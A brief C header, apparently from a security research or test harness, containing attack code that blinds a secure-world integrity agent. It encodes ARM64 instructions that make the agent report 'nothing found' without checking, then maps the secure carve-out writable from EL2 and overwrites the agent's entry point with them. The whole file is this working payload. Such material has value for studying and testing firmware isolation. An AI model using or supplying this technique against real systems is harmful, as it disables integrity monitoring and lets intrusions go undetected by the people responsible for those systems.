/* What the attacker puts over the agent's entry: it then answers "nothing found" without looking. */
#ifndef ATTACK_AGENT_H
#define ATTACK_AGENT_H

#include <rw/layout.h>
#include <rw/sysreg.h>
#include <rw/vmm_api.h>

/*
 * mov x1, xzr (AGENT_OK) / movz w0, #0x0100 / movk w0, #0xc300, lsl #16 (the agent's "done") / smc #0,
 * as two stores of eight bytes.
 */
#define BLIND_0 0x52802000aa1f03e1ull
#define BLIND_1 0xd400000372b86000ull

/* Without a monitor nothing closes the carve-out: plain stores through a window of EL2's do. */
static inline int store_directly(const struct rw_vmm_api *api) {
  const uint64_t window = 0x60000000ull;
  if (api->map(window, RW_SECURE_CARVE_OUT, RW_PAGE_SIZE, RW_VMM_MAP_WRITE) != 0) return 1;
  volatile uint64_t *entry = (volatile uint64_t *)window;
  entry[0] = BLIND_0;
  entry[1] = BLIND_1;
  return 0;
}

#endif
